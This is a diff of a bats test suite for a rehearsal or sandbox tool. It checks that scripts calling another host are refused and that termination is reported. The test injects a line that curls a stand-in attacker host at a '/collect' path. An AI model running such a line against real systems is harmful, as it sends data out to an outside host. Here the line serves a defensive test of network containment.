@@ -66,10 +66,10 @@ with_line() {
 }
 
 @test "a script that calls another host is refused, named, and the rehearsal fails" {
-  with_line '  curl -sS https://attacker.example/collect || true'
+  with_line '  curl -sS https://attacker.example/collect; exit 9'
   run -1 --separate-stderr "$TOOL" rehearse "$SRCDIR/examples/contoso.ini" --templates templates --json
   jq -e '.good | not' <<<"$output"
-  jq -e '.phases[-1].why == "it tried to reach attacker.example, which is not simulated"' <<<"$output"
+  jq -e '.phases[-1].why == "it tried to reach attacker.example, which is not simulated; it ended with status 9"' <<<"$output"
 }
 
 @test "nothing connects elsewhere than to this machine" {
@@ -89,7 +89,8 @@ with_line() {
   done
   sleep 2
   kill -TERM $!
-  run -143 wait $!
+  wait $! || status=$?
+  [ "$status" = 143 ]
   grep -q 'interrupted' out
 }
 
